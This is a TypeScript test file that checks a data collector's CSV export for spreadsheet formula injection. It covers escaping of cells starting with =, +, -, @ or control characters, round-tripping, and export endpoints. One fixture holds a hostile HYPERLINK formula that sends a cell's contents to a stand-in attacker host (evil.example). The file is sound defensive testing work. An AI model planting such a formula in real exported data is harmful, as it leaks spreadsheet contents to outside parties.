import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { withFormula, withoutFormula } from '../../../formats/csv/formulas';
import { namedCsvRows } from '../../../node/rows';
import { linesAt, post } from '../helpers/collector-client';
import { temporaryCollector } from '../helpers/empty-store';

/** What a spreadsheet takes for a formula. */
const isFormula = (cell: string): boolean =>
  /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !Number.isFinite(Number(cell));

/** What a spreadsheet that separates cells by something else than commas may run of a cell within a line. */
const formulasWithin = (cell: string): readonly string[] =>
  [';', '\t']
    .flatMap((separator) => stringify([['a', cell, 'b']]).split(new RegExp(`[\r\n${separator}]`)))
    .filter((part) => isFormula(part.replace(/^"+/, '')));

describe('text of others in CSV', () => {
  test.each(['=1+1', '+1;1', '-1+1', '@SUM(A1)', '\t1', '\r1', '\n1', '＝1', '＋1', '－1', '＠A', '"=1'])(
    '%j is no formula',
    (text) => expect(withoutFormula(text)).toBe(`'${text}`),
  );

  test.each([
    ['x;=1+1;y', "x;'=1+1;y"],
    ['x\t@A1', "x\t'@A1"],
    ['x\r\n-1', "x\r'\n'-1"],
    ['\t=1', "'\t'=1"],
    ['=1;=2', "'=1;'=2"],
    ['x;"=1', 'x;\'"=1'],
    ["x;'=1", "x;''=1"],
  ])('%j is no formula where cells are separated by semicolons or tabs: %j', (text, cell) => {
    expect(withoutFormula(text)).toBe(cell);
    expect(formulasWithin(cell)).toEqual([]);
  });

  test.each(['', 'a', '5', '-5', '+5', '-0.25', '-1e-7', 'a=b', "'tis", "''"])('%j stays', (text) =>
    expect(withoutFormula(text)).toBe(text),
  );

  test('is read back as it was', () => {
    const text = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom(...Array.from(`'"=-+@;\t\r\n＝1.ea,`)) }),
    );
    fc.assert(
      fc.property(text, (value) => {
        const cell = withoutFormula(value);
        expect(isFormula(cell)).toBe(false);
        expect(formulasWithin(cell)).toEqual([]);
        expect(withFormula(cell)).toBe(value);
      }),
      { numRuns: 2000, seed: 4 },
    );
  });

  test('is no formula in what the collector gives out, and goes in again', async () => {
    const app = await temporaryCollector();
    const origin = await app.listen({ port: 0, host: '127.0.0.1' });
    const source = {
      source_event_id: '1',
      reporting_origin: 'https://ads.example',
      destination: 'https://shop.example',
      source_type: 'navigation',
      time: '2026-01-01T00:00:00.000Z',
      registration: {},
      campaign: '=HYPERLINK("https://evil.example/?"&A1)',
      '@column': '-2+3',
      quoted: "'=1",
      below: '-5',
      number: -5,
    };
    const log = async (body: string, type: string): Promise<unknown> =>
      (await post(`${origin}/sources`, body, { 'Content-Type': type })).json();
    expect(await log(JSON.stringify(source), 'application/x-ndjson')).toMatchObject({ stored: 1 });
    for (const path of ['/sources', '/training', '/estimates']) {
      const query = path === '/estimates' ? '&group=campaign&as_of=2030-01-01T00:00:00Z' : '';
      const text = await (await fetch(`${origin}${path}?format=csv${query}`)).text();
      const records: string[][] = parse(text);
      expect(records.length).toBeGreaterThan(1);
      expect(records.flat().filter(isFormula)).toEqual([]);
      expect(records.flat()).toContain(`'${source.campaign}`);
      if (path === '/estimates') continue;
      const [header = [], row = []] = records;
      const cell = (name: string): string | undefined =>
        row[header.findIndex((column) => column.endsWith(name))];
      expect([cell('below'), cell('number')]).toEqual(['-5', '-5']);
    }
    const csv = await (await fetch(`${origin}/sources?format=csv`)).text();
    const rows = [];
    for await (const { value } of namedCsvRows(Readable.from([csv]))) rows.push(value);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      campaign: source.campaign,
      '@column': '-2+3',
      quoted: "'=1",
      below: '-5',
    });
    const before = await linesAt(`${origin}/sources`);
    // A cell has no type, so the number comes back as text.
    const again = { stored: 0, duplicates: 0, conflicting: 1 };
    expect(await log(csv, 'text/csv')).toEqual(again);
    expect(await linesAt(`${origin}/sources`)).toEqual(before);
    await app.close();
  });
});
